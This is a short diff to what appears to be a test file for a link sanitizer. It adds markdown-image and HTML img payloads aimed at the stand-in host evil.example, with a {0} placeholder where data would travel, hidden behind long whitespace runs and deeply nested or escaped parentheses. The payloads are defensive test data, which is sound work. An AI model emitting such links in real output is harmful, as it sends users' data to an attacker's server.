@@ -367,6 +367,9 @@ LINKS = [
     "![x](https://evil.example/?q=\u00a0{0})",
     "<https:evil.example/ {0}>",
     "<img src='x.png?\n{0}'>",
+    "<img src" + " " * 200 + "=" + "\n" * 200 + "'//evil.example/{0}'>",
+    "![x](https://evil.example/" + "((a)" * 600 + ")" * 599 + "{0})",
+    "![x](https://evil.example/" + "\\)" * 600 + "\\){0})",
     '{{"url": "\\u0068ttps:\\u002f\\u002fevil.example/{0}"}}',
     "https://" + "a" * 70000 + "/{0}",
 ]
